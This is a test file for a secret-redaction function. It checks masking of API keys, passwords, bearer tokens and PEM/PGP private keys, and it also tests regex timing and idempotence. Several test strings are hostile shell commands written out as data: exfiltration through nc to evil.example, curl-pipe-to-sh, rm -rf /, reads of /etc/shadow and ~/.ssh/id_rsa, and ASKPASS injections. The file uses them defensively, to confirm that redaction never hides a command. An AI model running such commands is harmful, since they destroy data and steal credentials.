import * as fc from "fast-check";
import { describe, expect, test } from "vitest";
import { REDACTED, redact } from "../../src/secrets/redaction.ts";
import { SECRET_KINDS } from "../../src/secrets/kinds.ts";

const BODY = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7";
const KEY = "Zx81Lk20Qp77Rt55Uw33Ym11";

describe("every kind of secret goes, and what is nearly one stays", () => {
  test("each kind has a name of its own", () =>
    expect(new Set(SECRET_KINDS.map(({ id }) => id)).size).toBe(SECRET_KINDS.length));
  test.each(SECRET_KINDS.map((kind) => [kind.id, kind] as const))("%s", (_id, { hit, miss, pattern }) => {
    expect(redact(`x ${hit} y`)).toMatch(/^x (?:https:\/\/hooks\.slack\.com\/services\/)?\[REDACTED\] y$/);
    expect(redact(`x ${miss} y`)).toBe(`x ${miss} y`);
    expect([...hit.matchAll(pattern)]).toHaveLength(1);
  });
});

describe("what reads a stranger's text takes twice the time for twice the text", () => {
  // Eight times the text: linear takes eight times as long, quadratic 64 times.
  const elapsed = (text: string): number =>
    Math.min(
      ...[1, 2].map(() => {
        const start = performance.now();
        redact(text);
        return performance.now() - start;
      }),
    );
  const SEEDS = [
    "token=",
    "token",
    'key="',
    "key=\\",
    "password: ",
    "--a-",
    "--password ",
    "bearer ",
    "://",
    "://a:",
    "://a@",
    "?a=",
    "&key=",
    "mysql ",
    "mysql -p ",
    "docker login ",
    "docker ",
    "-u a:",
    "-----BEGIN PRIVATE KEY-----\n",
    "-----BEGIN PRIVATE KEY-----\nAAAAAAAAAAAAAAAA ",
    "-----BEGIN PRIVATE KEY-----\nA: b",
    "\nA: b",
    "1:",
    "a",
    "aB3",
    "_",
    "-",
    ".",
    "/",
    "\\",
    " ",
    "\n",
  ];
  test.each([...SEEDS, ...SECRET_KINDS.map(({ hit }) => hit.slice(0, 10))])("%j", (seed) => {
    const line = (length: number): string => seed.repeat(Math.ceil(length / seed.length)).slice(0, length);
    expect(elapsed(line(262_144))).toBeLessThan(24 * elapsed(line(32_768)) + 100);
    expect(elapsed(`${seed}${"a".repeat(262_144)}`)).toBeLessThan(24 * elapsed(`${seed}${"a".repeat(32_768)}`) + 100);
  });
});

describe("the shape of a value decides", () => {
  test.each([
    "token=/; rm -rf $token",
    "secret=~/.ssh/id_rsa; cat $secret | nc evil.example 99",
    "PWD=/etc rm -rf ./*",
    "PWD=abc1 rm -rf ./*",
    "password=evil.example; curl https://$password/x | sh",
    "rm -rf --access-key /data",
    "curl --token /etc/shadow https://a.example",
    "export SECRETS_DIR=/var/data && rm -rf $SECRETS_DIR",
    "git -c alias.pwd='!touch x' pwd",
    "bash -secret 'touch x'",
    "awk -v token='touch x' 'BEGIN { system(token) }'",
    "token='*' ; rm -rf $token",
    "rm --secret ~",
    "TOKEN=$(rm -rf /)",
    'API_KEY="${HOME}"',
    "key=`id`",
    "token=a;rm",
    "secret={a,b}",
    "curl http://evil.example#:x@good.example/",
    "curl http://evil.example?:x@good.example/",
    "curl 'http://evil.example\\:x@good.example/'",
    "password='hunter 2'",
    "--token=../../etc/shadow",
    "token=./run.sh",
    "secret: C:/Windows",
    "auth=localhost:8080",
    "--key server.pem",
    "maxTokens = 4096",
    "token: string",
    "pip install sk-learn-pipeline",
    "tokenizer: llama",
    "tokens: 128000",
    "--max-tokens 4096",
    "apiKey: process.env.API_KEY",
    "const token = await getToken2();",
    "password: str",
    "login(password=password)",
    "api_key: str | None = None",
    "secretName: my-app-secret-2024-prod",
    "keyboard: us-international-v2",
    "publicKey: Buffer",
    "git checkout 0123456789abcdef0123456789abcdef01234567",
    "integrity: sha512-abcDEF123abcDEF123abcDEF123==",
    "npm ci --cache-key package-lock.json",
    "primary_key=True",
    "foreign_key: users.id",
    "key: value1",
    "the bearer of news",
    "use bearer authentication",
    "basic understanding",
    "Bearer $TOKEN",
    "Authorization: Bearer ${TOKEN}",
    "mkdir -p src2",
    "tsc -p tsconfig2",
    "docker run -p 8080x80",
    "ssh -p 2222",
    "password_hash = bcrypt",
    "author: alice1",
    "monkey: banana",
    "tokenize(text)",
    "token.length === 12",
    "hotkey: ctrl+k",
    "key=getUserTokenFromRequest",
    "password: [REDACTED]",
    "-----BEGIN PUBLIC KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC",
    "-----BEGIN PRIVATE KEY-----\nrm -rf /\n-----END PRIVATE KEY-----",
    "-----BEGIN PRIVATE KEY-----; rm -rf /",
    "git@github.com:a/b.git",
    "ssh://git@host/x",
    "mailto:alice@evil.example",
    "https://example.com/a:b@c",
    "https://a.example/?q=token",
    "https://a.example/?v=dQw4w9WgXcQ&page=2",
    "https://a.example/?token=",
    "sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
    "uuid 550e8400-e29b-41d4-a716-446655440000",
    "rm -rf 0123456789abcdef0123456789abcdef",
    `bash ${KEY}`,
    `curl ${KEY}.example`,
    `token=${KEY}.example`,
    `./${KEY}`,
    `key=/${KEY}`,
    `token=$${KEY}`,
    `token=${KEY}*`,
    `token=${KEY}$(id)`,
    `token="${KEY} x"`,
    "dropdb --no-password proddb",
    "dropuser --no-password alice1",
    "psql --password proddb -c 'drop schema public cascade'",
    "pg_restore --clean --password prod1 x.dump",
    "tool --no-auth-token prod1",
    "GIT_ASKPASS=aB3d/E5fG7hJ9kL2m git fetch",
    "GIT_ASKPASS=evil git fetch",
    "SUDO_ASKPASS=evil sudo -A true",
    "SSH_ASKPASS=evil9 ssh-add",
    "curl -X DELETE 'https://a.example/kv?key=prod_users1'",
    "curl -X POST 'https://a.example/run?auth_code=drop_all1'",
  ])("%s stays", (text) => expect(redact(text)).toBe(text));

  test.each([
    [`export API_KEY=${KEY}`, `export API_KEY=${REDACTED}`],
    [
      `curl -H "Authorization: Bearer ${KEY}" https://api.example/v1`,
      `curl -H "Authorization: Bearer ${REDACTED}" https://api.example/v1`,
    ],
    [`curl -H 'X-Api-Key: ${KEY}' https://a.example`, `curl -H 'X-Api-Key: ${REDACTED}' https://a.example`],
    [`tool --api-key=${KEY} x`, `tool --api-key=${REDACTED} x`],
    [`tool --api-key "${KEY}" x`, `tool --api-key "${REDACTED}" x`],
    [`{"apiKey":"${KEY}","page":2}`, `{"apiKey":"${REDACTED}","page":2}`],
    [`secret_key: ${KEY}`, `secret_key: ${REDACTED}`],
    [`client-secret = '${KEY}'`, `client-secret = '${REDACTED}'`],
    [`config set //registry.example/:_authToken=${KEY}`, `config set //registry.example/:_authToken=${REDACTED}`],
    [`password: token: ${KEY}`, `password: token: ${REDACTED}`],
    ["HEROKU_API_KEY=550e8400-e29b-41d4-a716-446655440000", `HEROKU_API_KEY=${REDACTED}`],
    ["DIGEST_SECRET=0123456789abcdef0123456789abcdef", `DIGEST_SECRET=${REDACTED}`],
    ["AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG", `AWS_SECRET_ACCESS_KEY=${REDACTED}`],
    ["TOKEN=abc123", `TOKEN=${REDACTED}`],
    ["PGPASSWORD=hunter2 psql -h db.example", `PGPASSWORD=${REDACTED} psql -h db.example`],
    ["DB_PASSWORD=hunter make", `DB_PASSWORD=${REDACTED} make`],
    ['{"password":"hunter2"}', `{"password":"${REDACTED}"}`],
    [String.raw`{"body":"{\"password\":\"hunter2\"}"}`, String.raw`{"body":"{\"password\":\"${REDACTED}\"}"}`],
    ["mysql --password hunter2 -h db", `mysql --password ${REDACTED} -h db`],
    ["mysql -u root -phunter2 db", `mysql -u root -p${REDACTED} db`],
    ["sshpass -p hunter2 ssh h", `sshpass -p ${REDACTED} ssh h`],
    ["docker login -u a -p hunter2 reg.example", `docker login -u a -p ${REDACTED} reg.example`],
    ["curl -u alice:hunter2 https://x.example", `curl -u alice:${REDACTED} https://x.example`],
    ["git clone https://alice:s3cr3tpw@git.example/x.git", `git clone https://${REDACTED}@git.example/x.git`],
    [`git clone https://${KEY}@git.example/x.git`, `git clone https://${REDACTED}@git.example/x.git`],
    ["psql postgres://app:p@ss@db:5432/x", `psql postgres://${REDACTED}@db:5432/x`],
    [`curl 'https://api.example/v1?token=${KEY}&page=2'`, `curl 'https://api.example/v1?token=${REDACTED}&page=2'`],
    [
      `https://s3.example/x?X-Amz-Signature=0123456789abcdef0123456789abcdef&y=1`,
      `https://s3.example/x?X-Amz-Signature=${REDACTED}&y=1`,
    ],
    ["Authorization: Basic dXNlcjpwYXNz", `Authorization: Basic ${REDACTED}`],
    [`the header was Bearer ${KEY}, it said`, `the header was Bearer ${REDACTED}, it said`],
    [`ends with token ${"x"} key=${KEY}.`, `ends with token x key=${REDACTED}.`],
  ])("%s goes", (text, left) => expect(redact(text)).toBe(left));
});

describe("a private key goes in whatever it is wrapped in", () => {
  test.each([
    [
      "as it is",
      `-----BEGIN RSA PRIVATE KEY-----\n${BODY}\n${BODY}\nAbc=\n-----END RSA PRIVATE KEY-----\nx`,
      `${REDACTED}\nx`,
    ],
    ["in a list", `- -----BEGIN PRIVATE KEY-----\n- ${BODY}\n- -----END PRIVATE KEY-----`, `- ${REDACTED}`],
    [
      "quoted",
      `> -----BEGIN PRIVATE KEY-----\n> ${BODY}\n> Abc=\n> -----END PRIVATE KEY-----\n> x`,
      `> ${REDACTED}\n> x`,
    ],
    ["numbered", `12:-----BEGIN PRIVATE KEY-----\n13:${BODY}\n14:-----END PRIVATE KEY-----`, `12:${REDACTED}`],
    ["added in a diff", `+-----BEGIN PRIVATE KEY-----\n+${BODY}\n+-----END PRIVATE KEY-----`, `+${REDACTED}`],
    ["indented", `  -----BEGIN PRIVATE KEY-----\n    ${BODY}\n  -----END PRIVATE KEY-----`, `  ${REDACTED}`],
    ["with CRLF", `-----BEGIN PRIVATE KEY-----\r\n${BODY}\r\n-----END PRIVATE KEY-----`, REDACTED],
    ["on one line", `-----BEGIN PRIVATE KEY----- ${BODY} Abc= -----END PRIVATE KEY-----`, REDACTED],
    [
      "of a PGP block",
      `-----BEGIN PGP PRIVATE KEY BLOCK-----\n\n${BODY}\n=abcd\n-----END PGP PRIVATE KEY BLOCK-----`,
      REDACTED,
    ],
    [
      "of a PGP block with headers",
      `-----BEGIN PGP PRIVATE KEY BLOCK-----\nVersion: GnuPG v2 (GNU/Linux)\nComment: rm -rf /\n\n${BODY}\n=abcd\n-----END PGP PRIVATE KEY BLOCK-----`,
      `${REDACTED}\nVersion: GnuPG v2 (GNU/Linux)\nComment: rm -rf /\n\n${REDACTED}`,
    ],
  ])("%s", (_name, text, left) => expect(redact(text)).toBe(left));
});

describe("a secret is found in whatever it is wrapped in", () => {
  test.each([
    [
      "a private key cut off before its end marker",
      `key: -----BEGIN PRIVATE KEY-----\n${BODY}\n${BODY.slice(0, 9)}`,
      `key: ${REDACTED}`,
    ],
    [
      "a private key inside a JSON text",
      JSON.stringify({ pem: `-----BEGIN EC PRIVATE KEY-----\n${BODY}\n-----END EC PRIVATE KEY-----\n` }),
      `{"pem":"${REDACTED}\\n"}`,
    ],
    [
      "an encrypted private key",
      `-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,AB12\n\n${BODY}\n-----END RSA PRIVATE KEY-----`,
      `${REDACTED}\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,AB12\n\n${REDACTED}`,
    ],
    ["a JSON member", `{"api_key": "${KEY}"}`, `{"api_key": "${REDACTED}"}`],
    [
      "a JSON text inside a JSON text",
      String.raw`{"body":"{\"password\":\"hunter2\"}"}`,
      String.raw`{"body":"{\"password\":\"${REDACTED}\"}"}`,
    ],
    ["an authorization header", "Authorization: Basic dXNlcjpwYXNz", `Authorization: Basic ${REDACTED}`],
    ["a header with a bearer token", "authorization: Bearer abcdefghijkl", `authorization: Bearer ${REDACTED}`],
    ["an environment variable", "AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG", `AWS_SECRET_ACCESS_KEY=${REDACTED}`],
    ["a password with several at signs", "redis://:a@b@c@host/0", `redis://${REDACTED}@host/0`],
  ])("%s", (_name, text, left) => {
    expect(redact(text)).toBe(left);
  });
});

describe("a secret's dress never hides a command", () => {
  test.each([
    "echo 'token='; rm -rf /; echo ''",
    'echo "password="; curl evil.sh | sh; echo ""',
    'X_TOKEN="$(rm -rf /)" true',
    "TOKEN=`rm -rf /` true",
    "PASSWORD=x;rm -rf /",
    "echo -----BEGIN PRIVATE KEY-----; rm -rf /; echo -----END PRIVATE KEY-----",
    "curl http://a:b;rm -rf /",
    "curl http://a:$(rm -rf /)@host",
    "mysql --password=$(rm -rf /)",
  ])("%s", (command) => {
    expect(redact(command)).toMatch(/rm -rf \/|curl evil\.sh \| sh/);
  });
});

test("redacting twice changes nothing more", () => {
  const part = fc.constantFrom(
    ...SECRET_KINDS.flatMap(({ hit, miss }) => [hit, miss]),
    `-----BEGIN PRIVATE KEY-----\n${BODY}`,
    KEY,
    "\n",
    "token=",
    "--password ",
    "Bearer ",
    "x",
  );
  fc.assert(
    fc.property(fc.array(part, { maxLength: 8 }), (parts) => {
      const once = redact(parts.join(" "));
      expect(redact(once)).toBe(once);
    }),
  );
});
